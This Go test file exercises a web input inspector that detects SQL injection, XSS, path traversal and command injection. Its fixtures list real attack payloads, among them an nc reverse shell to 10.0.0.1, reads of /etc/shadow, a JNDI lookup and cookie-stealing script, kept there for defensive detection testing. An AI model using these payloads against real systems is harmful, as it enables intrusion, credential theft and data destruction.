package inspect_test

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/guardsdk/guard/inspect"
)

func TestValue(t *testing.T) {
	t.Parallel()
	attacks := []struct {
		class inspect.Class
		in    string
	}{
		{inspect.ClassSQLi, "1' OR '1'='1"},
		{inspect.ClassSQLi, "admin'--"},
		{inspect.ClassSQLi, "1 UNION ALL SELECT username,password FROM users"},
		{inspect.ClassSQLi, "1; DROP TABLE users--"},
		{inspect.ClassSQLi, "'; WAITFOR DELAY '0:0:5'--"},
		{inspect.ClassSQLi, "1 AND SLEEP(5)"},
		{inspect.ClassSQLi, "x' AND extractvalue(1,concat(0x7e,version()))--"},
		{inspect.ClassSQLi, "1/*!50000union*/select 1"},
		{inspect.ClassSQLi, "un/**/ion sel/**/ect password from users"},
		{inspect.ClassSQLi, "1 or 1=1"},
		{inspect.ClassSQLi, "x' or name like '%"},
		{inspect.ClassSQLi, "id'::int"},
		{inspect.ClassXSS, "<script>alert(1)</script>"},
		{inspect.ClassXSS, "<img src=x onerror=alert(1)>"},
		{inspect.ClassXSS, "\" onmouseover=\"alert(1)"},
		{inspect.ClassXSS, "javascript:alert(document.cookie)"},
		{inspect.ClassXSS, "jav&#x09;ascript:alert(1)"},
		{inspect.ClassXSS, "%3Csvg%2Fonload%3Dalert(1)%3E"},
		{inspect.ClassXSS, "＜script＞alert(1)＜/script＞"},
		{inspect.ClassXSS, "<a href=\"\\x0Bjavascript:alert(1)\">x</a>"},
		{inspect.ClassXSS, "';alert(String.fromCharCode(88,83,83))//"},
		{inspect.ClassXSS, "{{constructor.constructor('alert(1)')()}}"},
		{inspect.ClassPathTraversal, "../../../etc/passwd"},
		{inspect.ClassPathTraversal, "..\\..\\windows\\win.ini"},
		{inspect.ClassPathTraversal, "%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
		{inspect.ClassPathTraversal, "%252e%252e%252fetc%252fpasswd"},
		{inspect.ClassPathTraversal, "%c0%ae%c0%ae%c0%afetc%c0%afpasswd"},
		{inspect.ClassPathTraversal, "..%u2216..%u2216boot.ini"},
		{inspect.ClassPathTraversal, "....//....//etc/hosts"},
		{inspect.ClassPathTraversal, "image.png\x00.php"},
		{inspect.ClassPathTraversal, "php://filter/convert.base64-encode/resource=index"},
		{inspect.ClassCommandInjection, "127.0.0.1; cat /etc/shadow"},
		{inspect.ClassCommandInjection, "x | nc -e /bin/sh 10.0.0.1 4444"},
		{inspect.ClassCommandInjection, "$(whoami)"},
		{inspect.ClassCommandInjection, "`id`"},
		{inspect.ClassCommandInjection, "a;c'a't$IFS/etc/hosts"},
		{inspect.ClassCommandInjection, "() { :; }; /bin/bash -c id"},
		{inspect.ClassCommandInjection, "& FOR /F %i IN ('dir') DO echo %i"},
		{inspect.ClassCommandInjection, "${jndi:ldap://example.com/a}"},
		{inspect.ClassCommandInjection, "{cat,/etc/hosts}"},
	}
	for _, a := range attacks {
		f, ok := inspect.Value(a.in)
		if !ok {
			t.Errorf("%s not detected: %q", a.class, a.in)
			continue
		}
		// Some payloads are several things at once (cat /etc/shadow is
		// also traversal); the class must at least be a class.
		if f.Class == 0 || f.Reason == "" {
			t.Errorf("%q: finding %+v", a.in, f)
		}
	}
	benign := []string{
		"", "a", "hello world", "O'Brien", "D'Arcy-Smith", "it's a nice day, isn't it?", "rock & roll",
		"Tom and Jerry", "10 or 20", "C# and C++", "user@example.com", "john+tag@example.com",
		"https://example.com/search?q=shoes&page=2", "2026-11-29T19:20:00Z", "+44 20 7946 0958",
		"5b0e2c3a-8f1d-4e2a-9c7b-3d4e5f6a7b8c", "50% off!", "Wait... what?", "1/2 cup sugar",
		"Meet me at 5; bring snacks", "select the best option", "Drop me a line", "a < b and c > d",
		"price: 10$", "#hashtag", "well-known/path/to/file.txt", "SELECT FROM dropdown", "time to go",
		"Q&A", "He said \"hello\"", "x = y + 1", "email me (soon)", "C:\\Users\\Public\\file.txt",
		"I <3 Go", "AT&T", "ls", "cat", "whoami", "café crème", "naïve résumé", "日本語のテキスト",
	}
	for _, b := range benign {
		if f, ok := inspect.Value(b); ok {
			t.Errorf("benign %q flagged: %+v", b, f)
		}
	}
}

func TestCheckClasses(t *testing.T) {
	t.Parallel()
	if _, ok := inspect.Check("<script>alert(1)</script>", 1<<inspect.ClassSQLi); ok {
		t.Fatal("XSS flagged with only SQLi asked for")
	}
	if f, ok := inspect.Check("<script>alert(1)</script>", 1<<inspect.ClassXSS); !ok || f.Class != inspect.ClassXSS {
		t.Fatalf("got %+v %v", f, ok)
	}
	for c, want := range map[inspect.Class]string{inspect.ClassSQLi: "sqli", inspect.ClassXSS: "xss", inspect.ClassPathTraversal: "path_traversal", inspect.ClassCommandInjection: "cmdi", 0: "none"} {
		if c.String() != want {
			t.Errorf("%d.String() = %q", c, c.String())
		}
	}
}

// TestBoundedTime feeds long and pathological values: each must be done
// well within a second (the fuzzers check the same on random input).
func TestBoundedTime(t *testing.T) {
	t.Parallel()
	inputs := []string{
		strings.Repeat("'", 1<<16),
		strings.Repeat("<a ", 1<<14),
		strings.Repeat("%25", 1<<14),
		strings.Repeat("../", 1<<14),
		strings.Repeat(";ls ", 1<<14),
		strings.Repeat("/*", 1<<15),
		strings.Repeat("{,", 1<<15),
		strings.Repeat("a", 1<<20),
		strings.Repeat("select ", 1<<14),
		strings.Repeat("&#60;", 1<<14),
	}
	for i, in := range inputs {
		start := time.Now()
		inspect.Value(in)
		if d := time.Since(start); d > time.Second {
			t.Errorf("input %d: %v", i, d)
		}
	}
}

func TestHugeBodies(t *testing.T) {
	t.Parallel()
	h, _, _ := newServer(t, inspect.Config{MaxBodyBytes: 8 << 20})
	for name, body := range map[string]string{
		"deep arrays":  strings.Repeat("[", 1<<20),
		"deep objects": strings.Repeat(`{"a":`, 1<<18),
		"many fields":  "[" + strings.Repeat("1,", 1<<20) + "1]",
		"long string":  `{"a":"` + strings.Repeat("x", 4<<20) + `"}`,
	} {
		start := time.Now()
		rec := do(h, "POST", "/raw", "application/json", body)
		if rec.Code != http.StatusBadRequest && rec.Code != http.StatusOK {
			t.Errorf("%s: status %d", name, rec.Code)
		}
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("%s: %v", name, d)
		}
	}
}

func ExampleValue() {
	for _, v := range []string{"blue suede shoes", "1' OR '1'='1", "..%2f..%2fetc%2fpasswd", "<svg onload=alert(1)>"} {
		if f, bad := inspect.Value(v); bad {
			fmt.Printf("%s (%s, decoded=%v)\n", f.Class, f.Reason, f.Decoded)
		} else {
			fmt.Println("ok")
		}
	}
	// Output:
	// ok
	// sqli (sql_fingerprint, decoded=false)
	// path_traversal (dot_dot_segment, decoded=true)
	// xss (html_event_handler, decoded=false)
}

// TestTechnicalProse holds lines of documentation and code (Markdown code
// spans, Go snippets) that earlier rules misread, and attacks of the same
// shape that must stay detected.
func TestTechnicalProse(t *testing.T) {
	t.Parallel()
	benign := []string{
		"The `Writer` and `Reader` type provide similar",
		"- feat: New `Echo` integration",
		"- A `Valid` method to the `\"go.opentelemetry.io/otel/attribute\".KeyValue` type. (#1703)",
		"- `HEAD` requests still negotiate compression",
		"* `file` is the input file.",
		"```md",
		"if entryNum == 0 {",
		"if err == nil && ok {",
		"import Tabs from '@theme/Tabs';",
		"proxy_set_header Connection \"\";",
		"DRESS WITH HAT 18';",
		"flagged (`MULTIPART_STRICT_ERROR`) but not reassembled --",
		"- Fix bucket boundaries for `rpc.server.call.duration` and `rpc.client.call.duration` in `otelgrpc`.",
		"use the composing [`And`](#andmatchers) matcher:",
		"![](a.png) and ![](b.png)", "/* set in window.go */",
		"| key \":\" \"(\" value {\"OR\" value} \")\"",
	}
	for _, b := range benign {
		if f, ok := inspect.Value(b); ok {
			t.Errorf("benign %q flagged: %+v", b, f)
		}
	}
	attacks := []string{
		"`id`", "x`whoami`", "a; `cat /etc/passwd`", "name `uname -a` here", "`sleep 5`",
		"IF [%1]==[/?] echo usage", "if exist c:\\boot.ini del c:\\boot.ini",
		// SQL: breakout, an expression, a comment cutting the query off
		"x'|email--", "x' mod id--", "id'not like id--", "q' or tags[id] is not null--",
		"user@example.com';", "a'or'a", "x'and(1)", "DELETE FROM users;--", "OR 1# ",
		"SELECT/*x*/password/**/FROM/**/members", "DROP/*c*/t", "1.e(ascii)", "1.e.tables",
		"select 0x616263", "password::int",
		// XSS: comments inside a DOM access; JSFuck
		"document /*x*/ . cookie", "(![]+[])[+!+[]]", "!![]+[]", "OR '{\"a\":[4,5,{\"f\":7}]}' -> '$.c[2].f' = 7",
	}
	for _, a := range attacks {
		if _, ok := inspect.Value(a); !ok {
			t.Errorf("not detected: %q", a)
		}
	}
}
